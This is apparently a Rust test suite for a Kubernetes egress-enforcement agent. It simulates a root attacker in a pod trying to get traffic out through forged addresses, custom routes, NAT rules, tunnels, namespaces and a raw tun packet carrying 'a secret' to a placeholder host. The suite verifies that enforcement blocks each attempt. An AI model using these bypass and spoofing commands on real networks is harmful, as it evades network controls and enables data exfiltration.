//! An attacker who is root in the pod, with `CAP_NET_RAW` and `CAP_NET_ADMIN` in its network
//! namespace: own routes, addresses, interfaces, translations, namespaces and groups. Each attempt is
//! made first where nothing enforces, and gets out.
//!
//! All but those about groups are made from a cgroup that isn't the pod's, as after an escape from
//! it: the hooks of sockets would stop them earlier, and here the enforcement point is tried.

use egress_tests::{
    cluster::{Cluster, peer_program},
    container::container,
    denied::{Attempt, Wall, all_get_out, attempt},
    plan,
    process::Place,
    testbed::Testbed,
    verdicts::say,
};

/// The same, with what is undone afterwards.
fn undone<'a>(
    what: &'a str,
    reasons: &'a [&'a str],
    place: &'a Place,
    [make, ask, undo]: [&'a str; 3],
) -> Attempt<'a> {
    attempt(what, &["pod"], reasons, move || {
        container(place, &format!("{make} || exit 99; {ask}; code=$?; {undo}; exit $code"))
    })
}

const UDP: &str = "$ASK udp 203.0.113.9:9999";
const TCP: &str = "$ASK tcp 203.0.113.9:22";

/// Whether this kernel has a kind of interface; what it lacks is said.
fn has(place: &Place, kind: &str, on: &[&str]) -> bool {
    let made = place.ns.ip(&[&["link", "add", "try0"], on, &["type", kind]].concat());
    place.ns.ip(&["link", "del", "try0"]).ok();
    let missing = made.is_err_and(|error| {
        let said = format!("{error:#}");
        ["Unknown device type", "not supported"].iter().any(|text| said.contains(text))
    });
    if missing {
        say(&format!("not applicable: this kernel has no {kind} interfaces\n"));
    }
    !missing
}

#[test]
fn routes_addresses_and_translations_of_the_pods_own_lead_nowhere() {
    let testbed = Testbed::test(0).unwrap();
    let cluster = Cluster::grow(&testbed).unwrap();
    let (pod, elsewhere) = (testbed.pod(), testbed.outside_cgroup());
    // The pod beside it collaborates, and forwards.
    cluster.neighbour.ns.forward().unwrap();
    // In the attempts with forged addresses the router's is known: to ask for it would be denied.
    let (spoofed, outward): (&[&str], &[&str]) = (&["spoofed_source"], &["protocol"]);
    let inner = testbed.inner(pod, "inner", "10.99.0").unwrap();
    let nat = "nft 'table ip own { chain out { type nat hook output priority -100; \
               ip daddr 10.96.9.9 dnat to 203.0.113.9; }; }'";
    let attempts = [
        undone("no tricks", &["no_route"], &elsewhere, [":", TCP, ":"]),
        undone(
            "a route by another pod",
            outward,
            &elsewhere,
            ["ip route replace 203.0.113.9 via 10.244.1.20", UDP, "ip route del 203.0.113.9"],
        ),
        undone(
            "a route by the outside's router",
            outward,
            &elsewhere,
            [
                "ip neigh replace 10.10.0.254 lladdr 02:00:0a:f4:01:01 dev eth0 && \
             ip route replace 203.0.113.9 via 10.10.0.254 dev eth0 onlink",
                UDP,
                "ip route del 203.0.113.9",
            ],
        ),
        undone(
            "a rule and a table",
            &["no_route"],
            &elsewhere,
            [
                "ip route replace default via 10.244.1.20 table 100 && \
             ip rule add to 203.0.113.9 lookup 100",
                TCP,
                "ip rule del lookup 100",
            ],
        ),
        undone(
            "an address of its own",
            spoofed,
            &elsewhere,
            [
                "ip neigh replace 10.244.1.1 lladdr 02:00:0a:f4:01:01 dev eth0 && \
                 ip addr add 10.244.1.99/32 dev eth0",
                "$ASK udp 203.0.113.9:9999 --from 10.244.1.99",
                "ip addr del 10.244.1.99/32 dev eth0",
            ],
        ),
        undone(
            "an IPv6 address of its own",
            spoofed,
            &elsewhere,
            [
                "ip neigh replace fd00:10:244:1::1 lladdr 02:00:0a:f4:01:01 dev eth0 && \
                 ip addr add fd00:10:244:1::99/128 dev eth0 nodad",
                "$ASK udp '[2001:db8:bad::9]:9999' --from fd00:10:244:1::99",
                "ip addr del fd00:10:244:1::99/128 dev eth0",
            ],
        ),
        undone(
            "another hardware address",
            &["spoofed_hardware"],
            &elsewhere,
            [
                "ip link set eth0 address 02:00:0a:f4:01:77",
                UDP,
                "ip link set eth0 address 02:00:0a:f4:01:0a",
            ],
        ),
        undone(
            "listening to all",
            outward,
            &elsewhere,
            ["ip link set eth0 promisc on", UDP, "ip link set eth0 promisc off"],
        ),
        undone(
            "a translation of its own",
            outward,
            &elsewhere,
            [nat, "$ASK udp 10.96.9.9:9999", "nft delete table ip own"],
        ),
        attempt("the same of its own group", &["skb"], outward, || {
            container(
                pod,
                &format!(
                    "{nat}; $ASK udp 10.96.9.9:9999; code=$?; nft delete table ip own; exit $code"
                ),
            )
        }),
        undone("TCP from a namespace behind", &["no_route"], &inner, [":", TCP, ":"]),
        undone("UDP from a namespace behind", outward, &inner, [":", UDP, ":"]),
        // In user, network and cgroup namespaces of its own, but in its group.
        attempt("namespaces of its own", &["sendmsg"], outward, || {
            container(
                pod,
                &format!(
                    "exec unshare --user --map-root-user --cgroup {} ask udp 203.0.113.9:9999",
                    peer_program()?
                ),
            )
        }),
    ];
    let capture = testbed.capture().unwrap();
    all_get_out(&capture, &attempts).unwrap();
    let node = testbed.start_node_with(&cluster.node_args(&testbed)).unwrap();
    // What was sent once more before enforcement began.
    capture.take();
    let wall = Wall { testbed: &testbed, node: &node, capture: &capture };
    wall.stops_all(&attempts).unwrap();

    // Nor is another pod's address to be had inside, where its name may open doors.
    wall.stops_at(&["pod"], "the neighbour's address", spoofed, || {
        container(
            &elsewhere,
            "ip neigh replace 10.244.1.1 lladdr 02:00:0a:f4:01:01 dev eth0 && \
            ip addr add 10.244.1.20/32 dev eth0 && \
            $ASK udp 10.10.0.2:7007 --from 10.244.1.20; code=$?; \
            ip addr del 10.244.1.20/32 dev eth0; exit $code",
        )
    })
    .unwrap();
    // With its own address, and from a namespace behind it that takes its address, all is well.
    for from in [&elsewhere, &inner] {
        let done = container(from, "$ASK udp 10.10.0.2:7007 && $ASK tcp 10.244.2.10:7007").unwrap();
        assert!(done.ok(), "{done:?}");
    }
}

#[test]
fn interfaces_of_the_pods_own_lead_nowhere() {
    let testbed = Testbed::test(0).unwrap();
    let cluster = Cluster::grow(&testbed).unwrap();
    let (pod, elsewhere) = (testbed.pod(), testbed.outside_cgroup());
    // A node without an agent that takes tunnels apart and forwards what was in them.
    let remote = &cluster.remote.ns;
    let vx0 = format!("link add vx0 type vxlan id 7 local {} dstport 4789", plan::REMOTE);
    remote.ip(&vx0.split(' ').collect::<Vec<_>>()).unwrap();
    remote.ip(&["addr", "add", "10.98.0.2/24", "dev", "vx0"]).unwrap();
    remote.ip(&["link", "set", "vx0", "up"]).unwrap();

    let del = "ip link del own0";
    let up = "ip addr add 10.98.0.1/24 dev own0 && ip link set own0 up";
    let ping = "ping -c1 -W1 10.98.0.2";
    let vxlan = |remote: &str| {
        format!("ip link add own0 type vxlan id 7 remote {remote} dstport 4789 dev eth0 && {up}")
    };
    let (outer, inner) = (
        vxlan(plan::ATTACKER),
        format!("{} && ip route replace 203.0.113.9 via 10.98.0.2", vxlan(plan::REMOTE)),
    );
    let tunnels: Vec<(&str, String)> = ["ipip", "gre", "sit"]
        .into_iter()
        .filter(|kind| has(pod, kind, &[]))
        .map(|kind| {
            let ends = "local 10.244.1.10 remote 203.0.113.9";
            (kind, format!("ip link add own0 type {kind} {ends} && {up}"))
        })
        .collect();
    let mut attempts = vec![
        undone("VXLAN to the outside", &["protocol"], &elsewhere, [&outer, ping, del]),
        undone("VXLAN to a node that forwards", &["encapsulation"], &elsewhere, [&inner, UDP, del]),
        undone(
            "macvlan on its own interface",
            &["spoofed_hardware"],
            &elsewhere,
            [
                "ip link add own0 link eth0 type macvlan mode bridge && \
             ip addr add 10.244.1.77/32 dev own0 && ip link set own0 up && \
             ip route replace 203.0.113.9 via 10.244.1.1 dev own0 onlink",
                "$ASK udp 203.0.113.9:9999 --from 10.244.1.77",
                del,
            ],
        ),
        undone(
            "a bridge over its own interface",
            &["protocol"],
            &elsewhere,
            [
                "ip link add own0 type bridge && ip link set own0 up && ip link set eth0 master own0 && \
             ip addr add 10.244.1.10/24 dev own0 && ip route replace 203.0.113.9 via 10.244.1.1 dev own0",
                UDP,
                del,
            ],
        ),
        // What a program writes to a tun interface the pod forwards.
        undone(
            "tun",
            &["protocol"],
            &elsewhere,
            [
                "sysctl -qw net.ipv4.ip_forward=1 && \
             nft 'table ip own { chain out { type nat hook postrouting priority 100; ip saddr 10.97.0.2 masquerade; }; }'",
                TUN,
                "nft delete table ip own",
            ],
        ),
    ];
    for (kind, make) in &tunnels {
        attempts.push(undone(kind, &["protocol"], &elsewhere, [make, ping, del]));
    }
    if has(pod, "dummy", &[]) {
        attempts.push(undone("dummy", &["spoofed_source"], &elsewhere, [
            "ip link add own0 type dummy && ip addr add 10.97.1.1/32 dev own0 && ip link set own0 up",
            "$ASK udp 203.0.113.9:9999 --from 10.97.1.1", del,
        ]));
    }
    let capture = testbed.capture().unwrap();
    all_get_out(&capture, &attempts).unwrap();
    // A tagged frame gets no further than the next bridge even without enforcement.
    let tagged = undone(
        "VLAN",
        &["ether_type"],
        &elsewhere,
        [
            "ip link add own0 link eth0 type vlan id 5 && ip addr add 10.98.0.1/24 dev own0 && ip link set own0 up",
            ping,
            del,
        ],
    );
    if has(pod, "vlan", &["link", "eth0"]) {
        attempts.push(tagged);
    }
    let node = testbed.start_node_with(&cluster.node_args(&testbed)).unwrap();
    // What was sent once more before enforcement began.
    capture.take();
    Wall { testbed: &testbed, node: &node, capture: &capture }.stops_all(&attempts).unwrap();
    let inside = container(&elsewhere, "$ASK udp 10.10.0.2:7007").unwrap();
    assert!(inside.ok(), "{inside:?}");
}

/// Writes a datagram of 10.97.0.2 to a tun interface.
const TUN: &str = r#"/usr/bin/python3 -c '
import fcntl, os, socket, struct, subprocess, sys
tun = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(tun, 0x400454CA, struct.pack("16sH", b"own0", 0x1001))
for command in ("addr add 10.97.0.1/24 dev own0", "link set own0 up"):
    subprocess.run(["ip", *command.split()], check=True)
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF
addresses = socket.inet_aton("10.97.0.2") + socket.inet_aton("203.0.113.9")
head = struct.pack("!BBHHHBBH", 0x45, 0, 36, 1, 0, 64, 17, 0) + addresses
head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
os.write(tun, head + struct.pack("!HHHH", 9999, 9999, 16, 0) + b"a secret")
sys.exit(2)'"#;
